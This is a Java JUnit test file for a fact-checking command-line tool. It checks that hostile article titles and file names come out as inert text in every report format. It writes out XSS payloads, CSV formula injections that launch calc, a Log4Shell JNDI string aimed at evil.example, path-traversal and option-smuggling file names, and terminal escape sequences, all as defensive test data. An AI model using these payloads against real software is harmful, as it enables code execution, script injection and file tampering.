package org.recount.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.recount.browser.Chromium;
import org.recount.report.ReportForm;
import org.w3c.dom.NodeList;
import org.xml.sax.SAXException;

/** Articles made to break out of a report: whatever the form, they show as text, and nothing but the report is written. */
class HostileArticlesTest {
    private static final String FAULT =
            "Wes Streeting held Ilford North with 15,674 votes, just 528 more than the independent Leanne Mohamad.";

    private static final String PAGE =
            "<!doctype html><html><head><title>%s</title>%s</head><body>%s<p>" + FAULT + "</p></body></html>";

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    static Path temp;

    private static final ByteArrayOutputStream OUT = new ByteArrayOutputStream();
    private static final StringWriter ERR = new StringWriter();
    private static final List<String> TITLES = new ArrayList<>();

    /** File names, and what stands in the files. */
    private static Map<String, String> articles() {
        Map<String, String> articles = new LinkedHashMap<>();
        for (String title : List.of(
                "<script>alert(1)</script> at the count",
                "</title></style></script><script>alert(2)</script>",
                "<img src=x onerror=alert(3)> Night",
                "<svg onload=alert(4)><a xlink:href=javascript:alert(4)>Count</a></svg>",
                "\"><b onmouseover=alert(5)>Night</b>",
                "=cmd|' /C calc'!A0",
                "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\uFF1Dcmd|' /C calc'!A0",
                "\t=1+1 at the count",
                "[Results](javascript:alert(6)) and <https://evil.example>",
                "![x](https://evil.example/pixel.png) at the count",
                "# Heading | cell | `code` *bold* _it_ ~~gone~~ &lt;b&gt;",
                "]]> <!-- --> <![CDATA[ Night ]]>",
                "${jndi:ldap://evil.example/a} {{7*7}} %s %n {0}",
                "Night \u202Elaib\u202C of \u2066the\u2069 count",
                "Ni\u200Bght of\u2060 the \u200Dcount\uFEFF",
                "Night \u001B]0;owned\u0007\u001B[31m red",
                "Zalgo n\u0300\u0301\u0302\u0303\u0304\u0305ight")) {
            articles.put("title-%02d.txt".formatted(articles.size() + 1), title + "\n\n" + FAULT + "\n");
        }
        for (String name : List.of(
                "=cmd|' C calc'!A0.txt",
                "<script>alert(7)<!--script>.txt",
                "..%2f..%2fetc%2fpasswd.txt",
                "..\\..\\windows\\system.txt",
                "--out=elsewhere.txt",
                "name\u202Etxt.exe.txt",
                "new\nline\u001B[2J.txt")) {
            articles.put(name, "A long night\n\n" + FAULT + "\n");
        }
        articles.put(
                "page.html",
                PAGE.formatted(
                        "&lt;script&gt;alert(8)&lt;/script&gt;",
                        "<link rel=canonical href=\"javascript:alert(8)\">",
                        "<h1>&lt;script&gt;alert(8)&lt;/script&gt;</h1>"));
        articles.put(
                "outlet.html",
                PAGE.formatted(
                        "Night",
                        "<meta property=og:site_name content=\"=HYPERLINK(1)<script>alert(9)</script>\">"
                                + "<meta property=og:url content=\"https://news.example/&quot;onclick=alert(9)\">",
                        "<h1>Night</h1>"));
        articles.put("long.html", PAGE.formatted("x".repeat(1_000_000), "", ""));
        return articles;
    }

    @BeforeAll
    static void check() throws IOException {
        Path drafts = Files.createDirectories(temp.resolve("a/drafts"));
        List<String> named = new ArrayList<>();
        for (Map.Entry<String, String> article : articles().entrySet()) {
            Path file = Files.writeString(drafts.resolve(article.getKey()), article.getValue());
            named.add(file.toString());
        }
        Files.createDirectories(temp.resolve("a/claims"));
        Files.writeString(
                temp.resolve("a/claims/traversal.json"),
                "{\"format\":\"recount-claims/1\",\"article\":{\"id\":\"../../../owned\"},\"claims\":[{\"kind\":\"MAJORITY\","
                        + "\"quote\":\"a majority of 547\",\"election\":\"uk-2024\",\"contest\":\"Ilford North\",\"value\":547}]}");
        assertThat(run("check", named, "report")).as(ERR.toString()).isEqualTo(ExitCode.FOUND);
        confirmAll(temp.resolve("a/report"), drafts);
        assertThat(run("check", named, "report")).as(ERR.toString()).isEqualTo(ExitCode.FOUND);
        assertThat(run("verify", List.of(temp.resolve("a/claims").toString()), "verified"))
                .as(ERR.toString())
                .isEqualTo(ExitCode.FOUND);
        for (String line : Files.readAllLines(temp.resolve("a/report/articles.jsonl"))) {
            JsonNode article = JSON.readTree(line);
            if (article.at("/counts/findings/found").asInt() > 0) {
                TITLES.add(shown(article.get("title").asText()));
            }
        }
    }

    private static void confirmAll(Path report, Path beside) throws IOException {
        StringBuilder log = new StringBuilder();
        for (String line : Files.readAllLines(report.resolve("findings.jsonl"))) {
            log.append(
                    "{\"finding\":%s,\"decision\":\"confirmed\",\"at\":\"2024-07-08T06:12:30Z\",\"by\":\"</script>\"}%n"
                            .formatted(JSON.readTree(line).get("id")));
        }
        Files.writeString(beside.resolve("reviews.jsonl"), log);
    }

    private static int run(String command, List<String> inputs, String folder) {
        List<String> words = new ArrayList<>(List.of(command, "--overwrite", "--out", folder));
        words.addAll(inputs);
        for (ReportForm form : ReportForm.values()) {
            words.addAll(List.of("--format", form.code()));
        }
        Surroundings here = new Surroundings(
                temp.resolve("a"),
                Path.of("").toAbsolutePath(),
                Map.of(),
                OUT,
                new PrintWriter(ERR, true),
                false,
                Clock.fixed(Instant.parse("2024-07-08T06:12:30Z"), ZoneOffset.UTC));
        return new Recount(here, choice -> Wiring.desk(choice, Home.of(here))).run(words.toArray(String[]::new));
    }

    /** As a report may show foreign text: on one line, what steers or turns the direction replaced. */
    private static String shown(String text) {
        return text.replaceAll("[\\s\\u0085]+", " ")
                .replaceAll("[\\p{Cc}\\u202A-\\u202E\\u2066-\\u2069\\u200E\\u200F\\u061C\\uFEFF]", "\uFFFD")
                .strip();
    }

    @Test
    void are_all_checked_and_all_found_wrong() {
        assertThat(articles()).hasSize(30);
        assertThat(TITLES).hasSize(30);
    }

    @Test
    void nothing_is_written_outside_the_reports_folder() throws IOException {
        assertThat(names(temp)).containsExactly("a");
        assertThat(names(temp.resolve("a"))).containsExactly("claims", "drafts", "report", "verified");
        assertThat(names(temp.resolve("a/drafts"))).hasSize(31);
        for (String folder : List.of("report", "verified")) {
            assertThat(names(temp.resolve("a").resolve(folder)))
                    .allMatch(name ->
                            name.matches("[a-z]+\\.(jsonld|jsonl|json|html|md|csv|xlsx|sarif|xml)|texts|report"));
            assertThat(names(temp.resolve("a").resolve(folder).resolve("report")))
                    .hasSizeGreaterThan(3)
                    .allMatch(name -> name.matches("[a-z][a-z0-9._~-]*\\.html|report\\.(css|js)"));
            assertThat(names(temp.resolve("a").resolve(folder).resolve("texts")))
                    .allMatch(name -> name.matches("[A-Za-z0-9][A-Za-z0-9._ -]*\\.txt"));
        }
    }

    private static List<String> names(Path folder) throws IOException {
        if (!Files.exists(folder)) {
            return List.of();
        }
        try (Stream<Path> content = Files.list(folder)) {
            return content.map(path -> path.getFileName().toString()).sorted().toList();
        }
    }

    @ParameterizedTest
    @EnumSource
    void show_as_text_in_every_form(ReportForm form) throws IOException {
        switch (form) {
            case HTML -> {
                Document overview = page(read("report.html"));
                assertThat(overview.text()).contains(shortTitles());
                holdsNoForeignMarkUp(overview, 1);
                for (String name : names(temp.resolve("a/report/report"))) {
                    if (name.endsWith(".html")) {
                        holdsNoForeignMarkUp(page(read("report/" + name)), 1);
                    }
                }
            }
            case MARKDOWN -> {
                String html = HtmlRenderer.builder()
                        .build()
                        .render(Parser.builder().build().parse(read("report.md")));
                assertThat(page(html).text()).contains(shortTitles());
                holdsNoForeignMarkUp(page(html), 0);
            }
            case TERMINAL -> holdsNoControls(OUT.toString(StandardCharsets.UTF_8), "\n");
            case JSON -> {
                holdsNoControls(read("findings.jsonl"), "\n");
                for (String line : Files.readAllLines(temp.resolve("a/report/findings.jsonl"))) {
                    assertThat(JSON.readTree(line).isObject()).isTrue();
                }
            }
            case CSV -> holdsNoFormula(read("findings.csv"));
            case SARIF -> {
                holdsNoControls(read("findings.sarif"), "\\n");
                assertThat(JSON.readTree(read("findings.sarif")).at("/runs/0/results"))
                        .hasSize(30);
                assertThat(JSON.readTree(read("findings.sarif")).findValuesAsText("uri"))
                        .allMatch(uri -> uri.matches("file:///[A-Za-z0-9/._~!$&'()*+,;=:@%-]+"));
            }
            case ANNOTATIONS -> holdsNoMarkUp(read("annotations.jsonld"), "/items");
            case CLAIMREVIEW -> holdsNoMarkUp(read("claimreview.jsonld"), "/@graph");
            case JUNIT -> {
                holdsNoControls(read("junit.xml"), "\\n");
                assertThat(xml(read("junit.xml").getBytes(StandardCharsets.UTF_8))
                                .getElementsByTagName("failure")
                                .getLength())
                        .isEqualTo(30);
            }
            case XLSX -> holdsNoFormula(Files.readAllBytes(temp.resolve("a/report/findings.xlsx")));
        }
    }

    @Test
    void run_nothing_in_a_browser_and_ask_for_nothing() throws IOException {
        Path report = temp.resolve("a/report");
        List<String> heard = new ArrayList<>();
        List<String> asked = new ArrayList<>();
        try (Chromium chromium = Chromium.start();
                BrowserContext context = chromium.browser().newContext()) {
            Page page = context.newPage();
            page.onDialog(dialog -> {
                heard.add(dialog.message());
                dialog.dismiss();
            });
            page.onConsoleMessage(message -> heard.add(message.text()));
            page.onPageError(heard::add);
            page.onRequest(request -> asked.add(request.url()));
            page.navigate(report.resolve("report.html").toUri().toString());
            page.fill("input[name=q]", "streeting");
            page.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true; })");
            for (String name : names(report.resolve("report"))) {
                if (name.startsWith("article-")) {
                    page.navigate(report.resolve("report").resolve(name).toUri().toString());
                    page.locator(".prose .mark").first().click();
                }
            }
        }
        assertThat(heard).isEmpty();
        assertThat(asked)
                .hasSizeGreaterThan(60)
                .allMatch(url -> url.startsWith(report.toUri().toString()) || url.equals("data:,"));
    }

    private static String read(String name) throws IOException {
        return Files.readString(temp.resolve("a/report").resolve(name));
    }

    private static Document page(String html) {
        holdsNoControls(html, "\n");
        return Jsoup.parse(html);
    }

    private static void holdsNoControls(String text, String allowed) {
        assertThat(text.replaceAll("[" + allowed + "]", "").codePoints()).noneMatch(Character::isISOControl);
    }

    private static void holdsNoForeignMarkUp(Document page, int ownScripts) {
        assertThat(page.select("script")).hasSize(ownScripts);
        assertThat(page.select("img, iframe, object, embed, [onerror], [onload], [onclick], [onmouseover]"))
                .isEmpty();
        for (Element link : page.select("a[href]")) {
            assertThat(link.attr("href"))
                    .matches("(?:(?:report/|\\.\\./)?[a-z][a-z0-9._~-]*\\.html)?(?:#.*)?"
                            + "|https://(github\\.com|commonslibrary\\.parliament\\.uk)/.*");
        }
    }

    private static List<String> shortTitles() {
        return TITLES.stream().filter(title -> title.length() < 1000).toList();
    }

    private static void holdsNoFormula(String csv) {
        holdsNoControls(csv, "\r\n");
        List<String> cells = new ArrayList<>();
        for (CsvRecord row : CsvReader.builder().ofCsvRecord(csv)) {
            cells.addAll(row.getFields());
        }
        assertThat(cells)
                .allMatch(cell -> cell.matches("(?s)|[^=+@\uFF1D\uFF0B\uFF0D\uFF20-].*|-[0-9.]+"))
                .anyMatch(cell -> cell.equals("'=cmd|' /C calc'!A0"));
        assertThat(cells.stream().map(cell -> cell.replaceFirst("^'", ""))).containsAll(TITLES);
    }

    /** JSON that may stand in a page. */
    private static void holdsNoMarkUp(String json, String items) throws IOException {
        holdsNoControls(json, "\\n");
        assertThat(json).doesNotContain("<", ">", "&");
        assertThat(JSON.readTree(json).at(items)).hasSize(30);
    }

    private static org.w3c.dom.Document xml(byte[] text) throws IOException {
        try {
            return DocumentBuilderFactory.newDefaultNSInstance()
                    .newDocumentBuilder()
                    .parse(new ByteArrayInputStream(text));
        } catch (ParserConfigurationException | SAXException e) {
            throw new IOException(e);
        }
    }

    private static void holdsNoFormula(byte[] workbook) throws IOException {
        List<String> cells = new ArrayList<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(workbook))) {
            for (ZipEntry part = zip.getNextEntry(); part != null; part = zip.getNextEntry()) {
                assertThat(part.getName().toLowerCase(Locale.ROOT)).doesNotContain("..", "vba", "externallink");
                org.w3c.dom.Document xml = xml(zip.readAllBytes());
                assertThat(xml.getElementsByTagName("f").getLength()).isZero();
                NodeList texts = xml.getElementsByTagName("t");
                for (int i = 0; i < texts.getLength(); i++) {
                    cells.add(texts.item(i).getTextContent());
                }
            }
        }
        assertThat(cells).containsAll(shortTitles());
    }
}
